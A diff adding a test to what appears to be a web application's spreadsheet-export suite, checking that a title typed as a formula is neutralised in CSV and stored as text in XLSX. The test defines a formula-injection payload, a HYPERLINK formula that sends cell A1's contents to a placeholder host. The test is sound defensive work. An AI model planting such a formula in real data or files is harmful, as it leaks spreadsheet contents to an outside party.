@@ -482,6 +482,22 @@ def test_the_xlsx_export_keeps_numbers_and_dates_typed(client, alice, bob, libra
     assert sheet.column_dimensions["B"].width == 60
 
 
+HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"Cliquez ici")'
+
+
+def test_a_title_typed_as_a_formula_is_exported_as_text(client, bob, library):
+    make_market(bob, title=HYPERLINK)
+    client.force_login(bob)
+
+    header, row = csv_rows(client.get(EXPORT, {"format": "csv"}))
+    sheet = workbook_of(client.get(EXPORT, {"format": "xlsx"}))["Marchés"]
+
+    assert dict(zip(header, row, strict=True))["Objet"] == "'" + HYPERLINK
+    cell = sheet.cell(row=2, column=2)
+    assert cell.value == HYPERLINK
+    assert cell.data_type == "s"
+
+
 def test_the_export_only_holds_what_the_person_may_read(client, bob, dora, bobs, doras):
     client.force_login(bob)
 
